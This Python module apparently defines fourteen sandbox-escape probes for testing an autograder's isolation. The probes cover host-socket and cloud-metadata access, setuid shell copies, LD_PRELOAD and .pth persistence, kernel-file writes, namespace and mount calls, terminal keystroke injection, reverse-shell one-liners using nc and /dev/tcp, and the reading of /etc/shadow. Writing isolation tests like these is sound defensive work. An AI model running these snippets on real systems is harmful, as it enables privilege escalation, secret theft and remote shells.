"""I. Host and network."""

from __future__ import annotations

from .attack import SEEK, Attack

I = [
    Attack(
        "I1",
        "links where the host may later read or write",
        "secret",
        SEEK
        + """
for name in ("x", "results.json", "output", "answers"):
    for target in ("/etc/shadow", "/work/main/course.yaml", "/root"):
        try: os.unlink(name)
        except OSError: pass
        os.symlink(target, name); file(name)
""",
        base="right",
    ),
    Attack(
        "I2",
        "set-user-id files and capabilities",
        "harm",
        """
import os, shutil
for path in ("/tmp/su", "/dev/shm/su", "su"):
    shutil.copy("/bin/sh", path); os.chmod(path, 0o6777)
    try: os.setxattr(path, "security.capability", b"\\1\\0\\0\\2" + b"\\xff" * 16)
    except OSError: pass
    pid = os.fork()
    if pid == 0:
        os.execv(path, [path, "-p", "-c", "echo x > /etc/autograder-owned"])
    os.waitpid(pid, 0)
""",
    ),
    Attack(
        "I3",
        "the engine's socket, loopback services, metadata, DNS, raw sockets",
        "secret",
        SEEK
        + """
for family in (1, 2, 10, 16, 17, 40, 30, 38):
    for kind in (1, 2, 3, 5):
        try: s = socket.socket(family, kind)
        except OSError: continue
        for place in ("/var/run/docker.sock", "/work/main/.autograder/engine/docker.sock", "/box/channel/control",
                      ("127.0.0.1", 22), ("169.254.169.254", 80), ("8.8.8.8", 53), ("::1", 22)):
            try: s.connect(place); print("OWNED", "connected", family, place)
            except (OSError, TypeError): pass
try: socket.getaddrinfo("example.org", 80); print("OWNED", "resolved")
except OSError: pass
""",
    ),
    Attack(
        "I4",
        "LD_PRELOAD, PYTHONSTARTUP, .pth files for whoever comes next",
        "harm",
        """
import os, site, sys
os.environ.update(LD_PRELOAD="/tmp/x.so", PYTHONSTARTUP="/tmp/x.py", PYTHONPATH="/tmp", BASH_ENV="/tmp/x")
for folder in [*site.getsitepackages(), os.path.expanduser("~/.local/lib/python3.11/site-packages"), "/box/guest"]:
    try:
        os.makedirs(folder, exist_ok=True)
        open(folder + "/x.pth", "w").write("import os; os._exit(1)\\n")
    except OSError: pass
""",
    ),
    Attack(
        "I5",
        "change what is bound from the host: guest, data, environment, devices",
        "harm",
        """
import os, shutil
for path in ("/box/guest/wire.py", "/box/data/points.csv", "data/points.csv", "/box/env/bin/python", "/usr/bin/env", "/dev/null"):
    for change in (lambda: open(path, "a").write("#"), lambda: os.chmod(path, 0), lambda: os.utime(path), lambda: os.unlink(path),
                   lambda: os.rename(path, path + "x"), lambda: os.link(path, "/tmp/link"), lambda: os.truncate(path, 0),
                   lambda: os.setxattr(path, "user.x", b"y")):
        try: change()
        except OSError: pass
""",
    ),
    Attack(
        "I6",
        "cgroups, sysctl, core_pattern, sysrq, kernel files",
        "harm",
        """
import os
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs",
             "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/proc/self/oom_score_adj", "/proc/1/oom_score_adj"):
    try: open(path, "w").write("0")
    except OSError: pass
    else: print("OWNED", "wrote", path)
""",
        base="right",
    ),
    Attack(
        "I7",
        "new namespaces, mounts, devices, roots",
        "harm",
        """
import ctypes, os
libc = ctypes.CDLL(None)
for flag in (0x10000000, 0x20000, 0x40000000, 0x2000000, 0x80, 0x7c020000):
    if libc.unshare(flag) == 0: print("OWNED", "unshared", flag)
if libc.mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0: print("OWNED", "mounted")
if libc.umount2(b"/proc", 2) == 0: print("OWNED", "unmounted")
node = lambda: os.mknod("/tmp/sda", 0o60666, os.makedev(8, 0))
for call in (node, lambda: os.chroot("/tmp"), lambda: os.setuid(0), lambda: os.setgroups([0])):
    try: call(); print("OWNED", "done")
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "I8",
        "keys typed into the grader's terminal",
        "harm",
        """
import fcntl, os
for fd in (0, 1, 2, os.open("/dev/ptmx", os.O_RDWR)):
    for code in (0x5412, 0x541C, 0x541D):
        try: fcntl.ioctl(fd, code, b"x"); print("OWNED", "typed", fd, code)
        except OSError: pass
""",
        base="right",
    ),
    Attack(
        "I9",
        "a hundred kernel calls that a notebook never needs",
        "harm",
        """
import ctypes, os, signal
libc = ctypes.CDLL(None)
for number in range(160, 470):
    if number in (231, 435):  # exit_group and clone3 end or double only the child
        continue
    child = os.fork()
    if child == 0:
        signal.setitimer(signal.ITIMER_REAL, 0.005)  # some of them wait
        libc.syscall(number, 0, 0, 0, 0, 0, 0)
        os._exit(0)
    os.waitpid(child, 0)
""",
        base="right",
    ),
    Attack(
        "I10",
        "a reverse shell, by every way to open one",
        "harm",
        """
import os, socket, subprocess
for place in (("127.0.0.1", 4444), ("10.0.0.1", 443), ("::1", 4444)):
    try:
        with socket.create_connection(place, timeout=0.05): print("OWNED", "connected", place)
    except OSError: pass
for line in ("exec 5<>/dev/tcp/127.0.0.1/4444", "nc -e /bin/sh 127.0.0.1 4444", "curl http://127.0.0.1:4444", "ssh x@127.0.0.1"):
    try:
        if subprocess.run(["/bin/bash", "-c", line], capture_output=True, timeout=0.3).returncode == 0: print("OWNED", line)
    except (OSError, subprocess.SubprocessError): pass
""",
        base="right",
    ),
    Attack(
        "I11",
        "a service of its own that waits on every address for whoever calls",
        "harm",
        """
import socket
for family in (socket.AF_INET, socket.AF_INET6):
    try:
        s = socket.socket(family); s.bind(("", 8888)); s.listen(); print("OWNED", "listens", family)
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "I12",
        "LD_PRELOAD and PYTHONSTARTUP for programs that it starts itself, with set-user-id ones among them",
        "harm",
        """
import os, subprocess, sys
os.makedirs("/tmp/p", exist_ok=True)
open("/tmp/p/x.pth", "w").write("import os; open('/tmp/autograder-owned', 'w')\\n")
open("/tmp/p/start.py", "w").write("open('/tmp/autograder-owned', 'w')\\n")
more = {"LD_PRELOAD": "/tmp/p/x.so", "LD_AUDIT": "/tmp/p/x.so"}
more |= {"PYTHONSTARTUP": "/tmp/p/start.py", "PYTHONPATH": "/tmp/p"}
for words in (["/usr/bin/passwd", "-S"], ["/bin/su", "-c", "id"], ["/bin/mount"], [sys.executable, "-i", "-c", "0"]):
    try:
        done = subprocess.run(words, env=more, capture_output=True, stdin=subprocess.DEVNULL, timeout=0.4)
        if b"uid=0" in done.stdout: print("OWNED", words)
    except (OSError, subprocess.SubprocessError): pass
""",
        base="right",
    ),
    Attack(
        "I13",
        "wider rules for itself: Landlock and seccomp again, no_new_privs, dumpable, capabilities",
        "harm",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, number in (("dumpable", 4), ("keepcaps", 8), ("securebits", 28)):
    if libc.prctl(number, 1, 0, 0, 0) == 0 and name != "keepcaps": print("OWNED", "set", name)
libc.prctl(38, 0, 0, 0, 0)
if libc.prctl(39, 0, 0, 0, 0) == 0: print("OWNED", "new privileges again")
if libc.prctl(47, 2, 0, 0, 0) == 0: print("OWNED", "a capability")
rules = ctypes.create_string_buffer((1 << 13).to_bytes(8, "little") + bytes(16))
for size in (8, 16, 24):
    fd = libc.syscall(444, rules, size, 0)
    if fd >= 0: libc.syscall(446, fd, 0); os.close(fd)
for flags in (0, 1, 8):
    libc.syscall(317, 1, flags, 0)
for path in ("/etc/autograder-owned", "/box/guest/x", "/usr/x"):
    try: open(path, "w"); print("OWNED", "wrote", path)
    except OSError: pass
""",
        base="right",
    ),
    Attack(
        "I14",
        "which files there are, from errors and times of calls that the rules refuse",
        "secret",
        SEEK
        + """
for path in ("/work/main", "/root/.ssh", "/home", "/work/main/course.yaml", "/etc/shadow"):
    for call in (os.stat, os.listdir, os.readlink, os.statvfs, os.chdir, os.path.realpath, os.listxattr):
        try: seek(call(path))
        except OSError as e: seek(e)
    file(path)
print("told", sorted(os.listdir("/"))[:3] and "a list of the box's own folders")
""",
        base="right",
    ),
]
